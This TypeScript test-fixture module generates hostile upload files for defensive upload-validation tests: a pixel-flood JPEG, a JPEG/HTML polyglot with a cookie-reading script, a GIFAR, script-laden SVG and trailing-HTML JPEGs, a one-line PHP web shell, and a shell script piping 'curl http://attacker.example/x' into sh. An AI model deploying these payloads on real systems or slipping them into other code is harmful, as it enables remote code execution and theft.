import sharp from 'sharp';

/** Hostile and valid files for the upload suites, built in memory (the plain ones are in ../support.ts). */

/** A small genuine picture (noise, so that it compresses like a photo). */
export async function validImage(
  format: 'png' | 'jpeg' | 'webp' = 'png',
  size = 64,
  /** Another seed draws other pixels (a product stores the same file only once). */
  seed = 0,
): Promise<Buffer> {
  const raw = Buffer.alloc(size * size * 3);
  for (let i = 0; i < raw.length; i++) raw[i] = ((i + seed) * 2654435761) >>> 24;
  return sharp(raw, { raw: { width: size, height: size, channels: 3 } })
    .toFormat(format)
    .toBuffer();
}

/** A genuine small JPEG whose frame header is rewritten to declare width × height pixels. */
export async function pixelFloodJpeg(width = 50_000, height = 50_000): Promise<Buffer> {
  const jpeg = Buffer.from(await validImage('jpeg', 16));
  for (let i = 2; i < jpeg.length - 9; i++) {
    // SOF0..SOF2: FF C0..C2, length (2), precision (1), height (2), width (2)
    if (jpeg[i] === 0xff && jpeg[i + 1]! >= 0xc0 && jpeg[i + 1]! <= 0xc2) {
      jpeg.writeUInt16BE(height, i + 5);
      jpeg.writeUInt16BE(width, i + 7);
      return jpeg;
    }
  }
  throw new Error('no frame header in the generated JPEG');
}

/** The first part of a real JPEG: the scan data stops half way. */
export async function truncatedJpeg(): Promise<Buffer> {
  const jpeg = await validImage('jpeg', 256);
  return jpeg.subarray(0, Math.floor(jpeg.length * 0.55));
}

/** JPEG magic bytes followed by an HTML page: sniffs as JPEG, is not one. */
export function jpegHtmlPolyglot(): Buffer {
  return Buffer.concat([
    Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]),
    Buffer.from('JFIF\0<html><body><script>alert(document.cookie)</script></body></html>'),
    Buffer.alloc(512, 0x41),
  ]);
}

/** A GIF header with a ZIP (Java archive) appended: a GIFAR. GIF is not an accepted type. */
export function gifar(): Buffer {
  const gif = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
  const zip = Buffer.concat([
    Buffer.from('PK\x03\x04', 'binary'),
    Buffer.from('META-INF/MANIFEST.MF'),
    Buffer.alloc(64),
  ]);
  return Buffer.concat([gif, zip]);
}

/** A genuine JPEG with an HTML payload appended after its end marker: accepted only as a re-encoded copy. */
export async function jpegWithTrailingHtml(): Promise<Buffer> {
  return Buffer.concat([await validImage('jpeg', 32), Buffer.from('<script>alert("trailing")</script>')]);
}

export const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl http://attacker.example/x | sh\n');
export const PHP_SCRIPT = Buffer.from('<?php system($_GET["c"]); ?>');
export const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>',
);
